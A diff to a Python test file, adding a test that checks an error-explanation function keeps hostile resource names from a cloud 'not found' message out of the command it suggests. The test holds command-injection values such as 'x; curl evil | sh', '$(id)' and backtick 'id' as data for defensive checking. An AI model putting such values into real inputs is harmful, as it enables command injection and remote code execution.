@@ -332,3 +332,14 @@ def test_projects_are_named_only_where_the_words_name_one(text: str, kind: str, 
     reading = explain(text)
     assert reading.kind == kind
     assert words in f"{reading.sentence} {reading.mend}"
+
+
+def test_no_answer_writes_its_own_command() -> None:
+    """A hostile answer is shown, and a part of it goes into a command only where it is a plain name."""
+    for name in ("x; curl evil | sh", "$(id)", "a\nb", "`id`"):
+        text = f"The resource 'projects/p/zones/us-central1-a/acceleratorTypes/{name}' was not found"
+        reading = explain({"error": {"code": 404, "message": text}})
+        assert reading.kind is RefusalKind.NOT_FOUND
+        assert "--filter=name=NAME`" in reading.mend or "`" not in reading.mend
+        assert "`" not in f"{reading.sentence}{reading.said}"
+        assert reading.sentence.isprintable()
